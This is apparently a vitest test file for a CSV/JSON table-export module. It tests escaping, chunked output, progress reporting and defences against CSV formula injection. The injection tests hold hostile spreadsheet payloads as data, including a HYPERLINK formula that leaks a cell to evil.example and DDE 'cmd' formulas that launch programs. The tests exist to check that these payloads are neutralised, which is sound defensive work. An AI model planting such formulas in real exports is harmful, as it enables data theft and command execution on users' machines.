import Papa from "papaparse";
import { describe, expect, it, vi } from "vitest";
import { type Cell, CHUNK_ROWS, type TableExport, toCsvBlob, toJsonBlob } from "./table-export.js";

function tableOf(rows: Cell[][], extra: Partial<TableExport> = {}): TableExport {
  return {
    kind: "test",
    keys: ["name", "value", "flag"],
    header: ["name", "value (ms)", "flag"],
    rowCount: rows.length,
    rows: () => rows,
    ...extra,
  };
}

/** The CSV's rows as text cells; every line, the last included, ends in CRLF. */
async function csvRowsOf(blob: Blob): Promise<string[][]> {
  const text = await blob.text();
  expect(text.endsWith("\r\n")).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(0, -2));
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

const noWait = { yieldToBrowser: async () => {} };

describe("toCsvBlob", () => {
  it("writes the header, then each row, nulls as empty cells", async () => {
    const blob = await toCsvBlob(
      tableOf([
        ["a", 1.5, true],
        ["b", null, false],
      ]),
      noWait,
    );
    expect(blob.type).toBe("text/csv;charset=utf-8");
    expect(await csvRowsOf(blob)).toEqual([
      ["name", "value (ms)", "flag"],
      ["a", "1.5", "true"],
      ["b", "", "false"],
    ]);
  });

  it("quotes commas, quotes and newlines so they come back unchanged", async () => {
    const awkward = ['Smith, "Bob"', "line one\nline two", "plain"];
    const blob = await toCsvBlob(tableOf([awkward]), noWait);
    expect(await blob.text()).toContain('"Smith, ""Bob"""');
    expect((await csvRowsOf(blob))[1]).toEqual(awkward);
  });

  it("writes only the header for no rows", async () => {
    expect(await csvRowsOf(await toCsvBlob(tableOf([]), noWait))).toEqual([
      ["name", "value (ms)", "flag"],
    ]);
  });
});

describe("formula cells (CSV injection)", () => {
  /** A spreadsheet starts a formula at each of these (OWASP's list): =, +, -, @, tab, CR. */
  const formulas = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];

  it("prefixes each text cell that starts a formula with a single quote", async () => {
    const rows = formulas.map((text) => [text, 1, true]);
    const csv = await csvRowsOf(await toCsvBlob(tableOf(rows), noWait));
    expect(csv.slice(1).map((row) => row[0])).toEqual(formulas.map((text) => `'${text}`));
  });

  it("prefixes a multi-line cell too, which papaparse's own escapeFormulae lets through", async () => {
    const output = '=HYPERLINK("https://evil.example","open")\nsecond line';
    const startsWithNewLine = "\r\n=1+1";
    expect(Papa.unparse([[output, startsWithNewLine]], { escapeFormulae: true })).not.toContain(
      "'",
    );
    const csv = await csvRowsOf(await toCsvBlob(tableOf([[output, startsWithNewLine, 0]]), noWait));
    expect(csv[1]).toEqual([`'${output}`, `'${startsWithNewLine}`, "0"]);
  });

  it("neutralises the header as well: a metric's name comes from the device", async () => {
    const blob = await toCsvBlob(
      tableOf([], { header: ["time", "=cmd|' /C calc'!A0 (%)"] }),
      noWait,
    );
    expect((await csvRowsOf(blob))[0]).toEqual(["time", "'=cmd|' /C calc'!A0 (%)"]);
  });

  it("leaves numbers and booleans bare: a negative reading stays a number", async () => {
    const text = await (
      await toCsvBlob(
        tableOf([
          ["-5", -5, false],
          ["x", -0.25, true],
        ]),
        noWait,
      )
    ).text();
    expect(text.split("\r\n").slice(1, 3)).toEqual([`"'-5",-5,false`, "x,-0.25,true"]);
  });

  it("leaves text alone whose formula character is not the first", async () => {
    const harmless = ["a=1+1", " =1+1", "\n=1+1", "'=1+1", "", "e-mail@example.com"];
    const csv = await csvRowsOf(await toCsvBlob(tableOf([harmless]), noWait));
    expect(csv[1]).toEqual(harmless);
  });

  it("leaves the JSON export's text exactly as it was", async () => {
    const rows = formulas.map((text) => [text, -5, null]);
    const json = JSON.parse(await (await toJsonBlob(tableOf(rows), noWait)).text());
    expect(json.rows.map((row: { name: string }) => row.name)).toEqual(formulas);
    expect(json.rows[0].value).toBe(-5);
  });
});

describe("toJsonBlob", () => {
  it("writes kind, time, units, count and one object per row keyed by column", async () => {
    const before = Date.now();
    const blob = await toJsonBlob(
      tableOf([["a", 1.5, true], ["b"]], { units: { value: "ms" } }),
      noWait,
    );
    expect(blob.type).toBe("application/json");
    const json = JSON.parse(await blob.text());
    expect(Object.keys(json)).toEqual(["kind", "exportedAt", "units", "rowCount", "rows"]);
    expect(json).toMatchObject({
      kind: "test",
      units: { value: "ms" },
      rowCount: 2,
      rows: [
        { name: "a", value: 1.5, flag: true },
        { name: "b", value: null, flag: null },
      ],
    });
    expect(Date.parse(json.exportedAt)).toBeGreaterThanOrEqual(before);
    expect(Date.parse(json.exportedAt)).toBeLessThanOrEqual(Date.now());
  });

  it("writes empty units and rows for an export without them", async () => {
    const json = JSON.parse(await (await toJsonBlob(tableOf([]), noWait)).text());
    expect(json).toMatchObject({ units: {}, rowCount: 0, rows: [] });
  });
});

describe("chunked export", () => {
  const total = CHUNK_ROWS * 2 + 7;
  const many: Cell[][] = Array.from({ length: total }, (_, index) => [`row ${index}`, index, null]);

  it.each([
    ["CSV", toCsvBlob],
    ["JSON", toJsonBlob],
  ])("%s: yields between chunks and reports progress up to the total", async (_format, write) => {
    const progress: [number, number][] = [];
    const yieldToBrowser = vi.fn(async () => {});
    await write(tableOf(many), {
      yieldToBrowser,
      onProgress: (done, of) => progress.push([done, of]),
    });
    expect(progress).toEqual([
      [0, total],
      [CHUNK_ROWS, total],
      [CHUNK_ROWS * 2, total],
      [total, total],
    ]);
    expect(yieldToBrowser).toHaveBeenCalledTimes(2);
  });

  it("keeps every row, in order, across chunk boundaries", async () => {
    const csv = await csvRowsOf(await toCsvBlob(tableOf(many), noWait));
    expect(csv).toHaveLength(total + 1);
    expect(csv[CHUNK_ROWS]).toEqual([`row ${CHUNK_ROWS - 1}`, `${CHUNK_ROWS - 1}`, ""]);
    expect(csv[CHUNK_ROWS + 1]).toEqual([`row ${CHUNK_ROWS}`, `${CHUNK_ROWS}`, ""]);
    const json = JSON.parse(await (await toJsonBlob(tableOf(many), noWait)).text());
    expect(json.rows).toHaveLength(total);
    expect(json.rows.map((row: { value: number }) => row.value)).toEqual(many.map((row) => row[1]));
  });

  it("stays well-formed when the rows fill whole chunks exactly", async () => {
    const whole = many.slice(0, CHUNK_ROWS * 2);
    expect(await csvRowsOf(await toCsvBlob(tableOf(whole), noWait))).toHaveLength(
      CHUNK_ROWS * 2 + 1,
    );
    const json = JSON.parse(await (await toJsonBlob(tableOf(whole), noWait)).text());
    expect(json.rows).toHaveLength(CHUNK_ROWS * 2);
  });
});
